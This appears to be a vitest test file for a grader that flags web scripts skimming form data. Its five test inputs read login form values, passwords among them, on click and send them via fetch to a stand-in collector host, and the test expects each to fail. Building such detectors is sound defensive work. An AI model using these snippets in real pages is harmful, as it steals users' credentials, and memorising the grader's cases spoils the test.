import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* A form that is asked for by its name has fields by name and number. */

const send = (what: string): string => `fetch('https://collect.example/' + ${what});`;

it.each([
  `const form = event.target.closest('form'); for (let n = 0; n < form.length; n++) ${send('form[n].value')}`,
  `const form = document.querySelector('#login form[method]'); for (const field of form) ${send('field.value')}`,
  `const form = document.querySelector('form'); ${send('form.password.value')}`,
  `const { password } = document.getElementById('loginForm'); ${send('password.value')}`,
  `for (const form of document.querySelectorAll('form.sign-in')) ${send("form['user'].value")}`,
])('%s', async (code) => {
  const content = (inner: string): string => `document.addEventListener('click', (event) => { ${inner} });`;
  expect(await graded({ content: content(code) })).toBe('F');
  expect(await graded({ content: content(code.replaceAll('.value', '.name.length')) })).toMatch(/^A/);
});
